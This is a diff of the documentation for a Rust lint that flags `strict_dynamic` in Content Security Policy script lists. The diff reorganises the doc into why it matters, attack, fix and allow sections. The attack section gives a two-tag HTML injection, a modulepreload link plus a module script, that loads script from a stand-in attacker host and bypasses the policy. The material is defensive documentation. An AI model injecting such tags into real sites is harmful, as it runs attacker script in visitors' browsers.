@@ -9,28 +9,24 @@ use crate::span::{Span, Spanned};
 lint! {
     /// # What it does
     ///
-    /// Looks for `strict_dynamic` in the list that decides about script elements, unless another enforced policy stops
-    /// what it lets in.
+    /// Looks for `strict_dynamic` in the list that takes effect for script elements, unless another enforced policy
+    /// blocks what it lets in.
     ///
     /// # Why it matters
     ///
-    /// An attacker who can inject two tags into a page runs any script, with no nonce and no report:
+    /// The standard has browsers fetch a module preload as if a trusted script had requested it, which `strict_dynamic`
+    /// allows for every URL, including `data:`. A module script then takes what was fetched, and nothing is checked
+    /// again. Chromium 156 behaves so. Fallback sources for old browsers, hashes in place of the nonce and Trusted
+    /// Types do not stop it.
     ///
-    /// ```text
+    /// # Attack
+    ///
+    /// An attacker who can inject two tags runs any script, without a nonce and without a report:
+    ///
+    /// ```html
     /// <link rel="modulepreload" href="https://evil.example/a.js">
     /// <script type="module" src="https://evil.example/a.js"></script>
     /// ```
-    ///
-    /// The standard has browsers fetch the preload as if a trusted script had asked for it, which `strict_dynamic`
-    /// allows for every URL, `data:` included. The module script then takes what has been fetched, and nothing is
-    /// checked again. Chromium 156 does so. Fallbacks for old browsers, hashes in place of the nonce and Trusted Types
-    /// do not stop it.
-    ///
-    /// Without `strict_dynamic`, the list is compared with the URL. A trusted script that loads others then gives
-    /// them the nonce (`script.nonce = document.currentScript.nonce`), and workers need a `worker_src`, since they fall
-    /// back to the list of scripts. A site that cannot do without `strict_dynamic` sends a second policy beside it,
-    /// which names the hosts of all its scripts. A list for every host, such as `https`, stops nothing, and no list stops
-    /// files on the hosts that it names: a user-uploaded file under `self` still runs.
     ///
     /// # Example
     ///
@@ -40,12 +36,31 @@ lint! {
     ///
     /// # Fix
     ///
+    /// Remove `strict_dynamic`. Trusted scripts then pass the nonce to the scripts that they load, with
+    /// `script.nonce = document.currentScript.nonce`, and workers need a `worker_src`, since they fall back to the list
+    /// of scripts.
+    ///
+    /// A site that needs `strict_dynamic` sends a second policy, which names the hosts of all its scripts:
+    ///
     /// ```text
     /// content_security_policy: [
     ///     { script_src: [nonce, strict_dynamic], base_uri: none },
     ///     { script_src: [self, nonce, "https://js.example.com"] },
     /// ],
     /// ```
+    ///
+    /// A second list that matches every host, such as `https`, stops nothing. No list stops files on the hosts that it
+    /// names: a user-uploaded file on `self` still runs.
+    ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_strict_dynamic, reason = "the tag manager loads from hosts that change weekly")]
+    /// script_src: [nonce, strict_dynamic],
+    /// ```
+    ///
+    /// Reasonable where the hosts of scripts cannot be listed: `strict_dynamic` with a nonce still stops injected
+    /// inline scripts and handlers.
     ///
     /// # References
     ///
